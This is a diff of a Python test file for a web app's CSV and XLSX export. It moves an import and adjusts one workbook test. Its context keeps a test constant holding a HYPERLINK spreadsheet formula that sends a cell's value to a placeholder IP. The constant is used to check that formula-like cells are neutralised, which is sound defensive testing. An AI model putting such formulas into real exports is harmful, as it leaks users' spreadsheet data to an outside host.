@@ -8,7 +8,8 @@ import io
 import openpyxl
 import pytest
 
-from hlom_live.web.record import COLUMNS, csv_file, neutral, xlsx_file
+from hlom_live.web.record import COLUMNS, csv_file, neutral
+from hlom_live.web.workbook import xlsx_file
 from tests.support.web import API, Site
 
 FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1)'
@@ -52,5 +53,5 @@ def test_a_cell_that_begins_like_a_formula_is_neutralised(start: str) -> None:
 
 
 def test_control_characters_do_not_break_the_workbook() -> None:
-    book = openpyxl.load_workbook(io.BytesIO(xlsx_file([["a\x0bb", *REST]])))
+    book = openpyxl.load_workbook(io.BytesIO(xlsx_file("record", [COLUMNS, ["a\x0bb", *REST]])))
     assert book.active["A2"].value == "ab"
